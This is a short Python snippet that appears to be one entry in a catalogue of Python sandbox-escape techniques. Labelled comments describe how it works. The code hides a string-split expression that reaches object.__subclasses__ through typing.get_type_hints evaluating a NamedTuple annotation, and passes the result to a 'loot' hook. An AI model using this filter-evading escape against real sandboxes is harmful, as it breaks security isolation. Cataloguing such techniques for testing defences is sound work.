# aim: let typing evaluate the annotations of a named tuple
# mechanism: typing.NamedTuple turns strings into forward references
# language: builtins
# reason: the library evaluates text unguarded
# jail: process
# plain: loot

import typing

Point = typing.NamedTuple("Point", [("x", "().__class__.__base__.__subcl" + "asses__")])
loot(typing.get_type_hints(Point, globalns={})["x"])
